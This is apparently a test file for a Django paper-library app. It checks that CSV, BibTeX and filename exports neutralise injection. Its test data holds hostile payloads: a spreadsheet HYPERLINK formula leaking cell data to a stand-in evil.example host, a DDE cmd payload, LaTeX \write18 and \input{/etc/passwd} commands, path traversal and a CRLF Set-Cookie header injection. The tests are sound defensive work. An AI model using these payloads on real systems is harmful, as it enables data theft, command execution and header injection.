"""Exports cannot be turned against whoever opens them.

CSV cells a spreadsheet would run as formulas are quoted; LaTeX in any field
stays text through real bibtex and TeX with shell escape on; download names
carry no path, quote or header of their choosing.
"""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from rest_framework.test import APIClient

from papers.bibtex import parse_bibtex
from papers.exports import attachment, export_attachment, export_stream
from papers.models import Author, Authorship, Paper, Status, Venue
from tests.external import program_path

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
INJECTIONS = {
    "title": "}\\input{/etc/passwd}",
    "howpublished": "\\immediate\\write18{touch PWNED-howpublished}",
    "note": "50% done } \\openout1=PWNED-note \\def\\x{y}\\catcode`\\@=0 }}}",
    "publisher": "\\include{/etc/passwd} ^^5cinput{/etc/passwd}",
    "abstract": "}}\n@misc{injected, title={Injected}}\n% a comment {",
}


def paper_with(key: str, *, authors=(), **fields) -> Paper:
    paper = Paper.objects.create(
        citation_key=key,
        entry_type=fields.pop("entry_type", "misc"),
        title=fields.pop("title", "A title"),
        year=2024,
        status=Status.PUBLISHED,
        **fields,
    )
    for position, (given, family) in enumerate(authors):
        author, _ = Author.objects.get_or_create(given=given, family=family)
        Authorship.objects.create(paper=paper, author=author, position=position)
    return paper


def exported(key: str, fmt: str) -> str:
    return "".join(export_stream(Paper.objects.filter(citation_key=key), fmt))


# --- CSV -------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(survey):
    venue = Venue.objects.create(name=FORMULAS[3])
    paper_with(
        "formula2024",
        title=FORMULAS[0],
        authors=[(FORMULAS[1], "Evil")],
        venue=venue,
        volume=FORMULAS[2],
        publisher=FORMULAS[4],
        pages=FORMULAS[5],
    )
    response = APIClient().get("/api/v1/papers/formula2024/?format=csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == "'" + FORMULAS[0]
    assert row["authors"] == "'" + FORMULAS[1] + " Evil"
    assert row["venue"] == "'" + FORMULAS[3]
    assert row["volume"] == "'" + FORMULAS[2]
    assert row["publisher"] == "'" + FORMULAS[4]
    assert row["pages"] == "'" + FORMULAS[5]
    assert not [v for v in row.values() if v.startswith(("=", "+", "-", "@", "\t"))]


def test_the_whole_csv_export_has_no_runnable_cell(survey):
    paper_with("formula2025", title=FORMULAS[0], authors=[("@x", "Y")])
    text = "".join(export_stream(Paper.objects.published(), "csv"))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- BibTeX ------------------------------------------------------------------


def hostile_paper() -> Paper:
    return paper_with(
        "hostile2024",
        title=INJECTIONS["title"],
        abstract=INJECTIONS["abstract"],
        publisher=INJECTIONS["publisher"],
        extra={"howpublished": INJECTIONS["howpublished"], "note": INJECTIONS["note"]},
        url="https://example.org/a}b\\input{c} d%e",
        authors=[("\\write18{touch PWNED-given}", "}{\\input{x}")],
    )


@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
def test_latex_in_fields_stays_inside_its_field(survey, fmt):
    paper = hostile_paper()
    text = exported(paper.citation_key, fmt)
    parsed = parse_bibtex(text)
    assert parsed.ok, parsed.problems
    [record] = parsed.records  # nothing closed the entry or added another
    assert record.key == "hostile2024"
    assert record.title == INJECTIONS["title"]
    assert record.publisher == INJECTIONS["publisher"]
    assert record.abstract == " ".join(INJECTIONS["abstract"].split())
    assert record.venue == INJECTIONS["howpublished"]  # misc's venue field
    assert record.extra == {"note": INJECTIONS["note"]}
    assert record.url == "https://example.org/a%7Db%5Cinput%7Bc%7D%20d%e"
    [author] = record.authors
    assert (author.given, author.family) == (
        "\\write18{touch PWNED-given}",
        "}{\\input{x}",
    )
    for command in ("\\input", "\\write18", "\\immediate", "\\openout", "\\include"):
        assert command not in text
    assert "^^" not in text


def test_an_unbalanced_protected_title_is_not_written(survey):
    paper = paper_with(
        "unbalanced2024",
        title="Plain Title",
        title_protected="x}, note = {injected",
    )
    [record] = parse_bibtex(exported(paper.citation_key, "bibtex")).records
    assert record.title == "Plain Title" and "note" not in record.extra


# TeX definitions for what plain.bst writes into a .bbl, so that plain TeX can
# typeset it (LaTeX itself is not installed here).
HARNESS = r"""
\let\primitiveend=\end
\def\begin#1#2{}\def\end#1{}
\def\bibitem#1{\par\noindent}\def\newblock{ }\def\em{\it}
\def\textbackslash{$\backslash$}\def\textbraceleft{$\{$}\def\textbraceright{$\}$}
\def\textasciitilde{\~{}}\def\textasciicircum{\^{}}
\input doc.bbl
\primitiveend
"""


def typeset(directory: Path, bbl: str) -> subprocess.CompletedProcess:
    """Run plain TeX, shell escape on, over a .bbl."""
    (directory / "doc.bbl").write_text(bbl)
    (directory / "run.tex").write_text(HARNESS)
    return subprocess.run(
        [program_path("tex"), "-shell-escape", "-interaction=nonstopmode", "run.tex"],
        cwd=directory,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_harness_would_run_a_command_that_got_through(tmp_path):
    bbl = "\\begin{thebibliography}{1}\n\\bibitem{x}\n"
    bbl += "\\immediate\\write18{touch CONTROL}\n\\end{thebibliography}\n"
    typeset(tmp_path, bbl)
    assert (tmp_path / "CONTROL").exists()


@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
def test_bibtex_and_tex_with_shell_escape_keep_hostile_fields_inert(
    survey, tmp_path, fmt
):
    bibtex = program_path("bibtex")
    paper = hostile_paper()
    (tmp_path / "refs.bib").write_text(exported(paper.citation_key, fmt))
    (tmp_path / "doc.aux").write_text(
        "\\relax\n\\citation{hostile2024}\n\\bibstyle{plain}\n\\bibdata{refs}\n"
    )
    result = subprocess.run(
        [bibtex, "doc"], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    log = (tmp_path / "doc.blg").read_text(errors="replace")
    assert result.returncode == 0, result.stdout + log
    assert "error message" not in log
    bbl = (tmp_path / "doc.bbl").read_text(errors="replace")
    assert bbl.count("\\bibitem") == 1
    # The title's text is there, escaped: a backslash is \textbackslash{}.
    flat = " ".join(bbl.split())
    assert "\\textbackslash{}input\\textbraceleft{}/etc/passwd" in flat
    assert "\\textbackslash{}immediate\\textbackslash{}write18" in flat
    for command in ("\\input", "\\write18", "\\immediate", "\\openout", "\\def\\"):
        assert command not in bbl
    typeset_run = typeset(tmp_path, bbl)
    tex_log = (tmp_path / "run.log").read_text(errors="replace")
    assert "\\write18 enabled" in tex_log  # commands would have run
    assert "Undefined control sequence" not in tex_log, tex_log
    assert typeset_run.returncode == 0, tex_log
    assert not list(tmp_path.glob("PWNED*"))


# --- download names ------------------------------------------------------------


@pytest.mark.parametrize(
    ("stem", "expected"),
    [
        ("vinyals2015show", 'attachment; filename="vinyals2015show.bib"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd.bib"'),
        ('a"b;\r\nSet-Cookie: x=1', 'attachment; filename="a-b-Set-Cookie-x-1.bib"'),
        (
            "müller2020",
            'attachment; filename="muller2020.bib"; '
            "filename*=UTF-8''m%C3%BCller2020.bib",
        ),
        ("", 'attachment; filename="papers.bib"'),
    ],
)
def test_download_names_are_sanitised(stem, expected):
    assert export_attachment("bibtex", stem) == expected


def test_a_unicode_name_keeps_no_separator_in_its_utf8_form():
    value = attachment("日本/..\\語", "graphml")
    assert value.startswith('attachment; filename="download.graphml"; filename*=')
    assert "%2F" not in value and "%5C" not in value and "/" not in value


def test_every_download_of_the_api_has_a_safe_name(survey):
    client = APIClient()
    paper = paper_with("m\u00fcller2024", title="Accents")
    paths = [
        "/api/v1/papers/?format=bibtex",
        "/api/v1/papers/?format=csv&q=%22%3B%0D%0A",
        f"/api/v1/papers/{paper.citation_key}/?format=ris",
        "/api/v1/stats/trends?format=csv",
        f"/api/v1/papers/{paper.citation_key}/map?format=graphml",
    ]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        value = response["Content-Disposition"]
        name = value.split('filename="')[1].split('"')[0]
        assert set(name) <= set(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"
        ), value
    detail = client.get(f"/api/v1/papers/{paper.citation_key}/?format=ris")
    assert detail["Content-Disposition"] == (
        "attachment; filename=\"muller2024.ris\"; filename*=UTF-8''m%C3%BCller2024.ris"
    )
